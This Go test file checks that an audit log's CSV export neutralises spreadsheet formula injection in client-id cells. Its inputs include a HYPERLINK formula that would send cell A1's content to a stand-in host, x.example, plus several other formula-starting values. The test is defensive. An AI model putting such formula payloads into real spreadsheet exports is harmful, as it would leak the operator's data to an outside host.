package audit_test

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/uuid"

	"github.com/neemias/neemias-mcp/internal/audit"
)

// TestWriteCSVNeutralizesFormulas (issue 24): the audit export's cells go through the rule
// of every CSV export (internal/csvsafe). A client id is the client's own text, and one that
// starts with "=", "+", "-", "@", a tab or a carriage return ran as a formula in the
// operator's spreadsheet.
func TestWriteCSVNeutralizesFormulas(t *testing.T) {
	church := uuid.MustParse("11111111-1111-1111-1111-111111111111")
	at := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	clients := []string{`=HYPERLINK("http://x.example/?"&A1,"ok")`, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "https://client.example/cimd.json"}
	var rows []audit.Row
	for i, c := range clients {
		rows = append(rows, audit.Row{ID: int64(i + 1), At: at, ChurchID: &church, ClientID: c, Capability: "roster_child", Action: "read", Outcome: "allowed"})
	}
	var buf bytes.Buffer
	if err := audit.WriteCSV(&buf, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range recs[1:] {
		got = append(got, r[4])
	}
	want := []string{`'=HYPERLINK("http://x.example/?"&A1,"ok")`, "'+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "https://client.example/cimd.json"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("client_id cells (-want +got):\n%s", diff)
	}
	if recs[1][1] != "2026-03-01T12:00:00Z" || recs[1][2] != church.String() {
		t.Errorf("the other cells changed: %q", recs[1])
	}
}
